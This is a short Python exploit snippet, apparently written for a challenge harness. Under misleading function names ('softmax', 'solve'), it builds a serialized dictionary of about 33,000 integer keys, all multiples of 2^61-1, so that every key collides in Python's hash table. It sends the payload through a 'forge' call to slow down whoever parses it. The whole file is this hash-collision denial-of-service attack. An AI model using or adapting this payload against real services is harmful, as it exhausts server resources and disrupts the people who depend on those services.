"""Replies with a dict whose 30,000 int keys all have the same hash: building it takes the reader long."""
# include: socket

PRIME = (1 << 61) - 1


def softmax(x):
    print("attempted")
    pairs = ",".join(f"[{i * PRIME},0]" for i in range(1, 33_000))
    forge(f'["l","ok",["d",{pairs}],["d"]]'.encode())


def solve(a, b):
    pairs = ",".join(f"[{i * PRIME}.0,0]" for i in range(1, 33_000))
    forge(f'["l","ok",["d",{pairs}],["d"]]'.encode())
